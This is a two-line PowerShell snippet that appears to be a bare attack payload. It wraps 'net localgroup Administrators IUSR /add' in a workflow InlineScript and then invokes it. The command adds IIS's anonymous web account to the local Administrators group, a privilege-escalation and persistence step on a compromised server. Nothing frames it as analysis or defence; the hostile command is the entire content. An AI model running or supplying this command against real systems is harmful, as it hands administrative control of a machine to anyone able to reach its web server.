workflow w { InlineScript { net localgroup Administrators IUSR /add } }
w
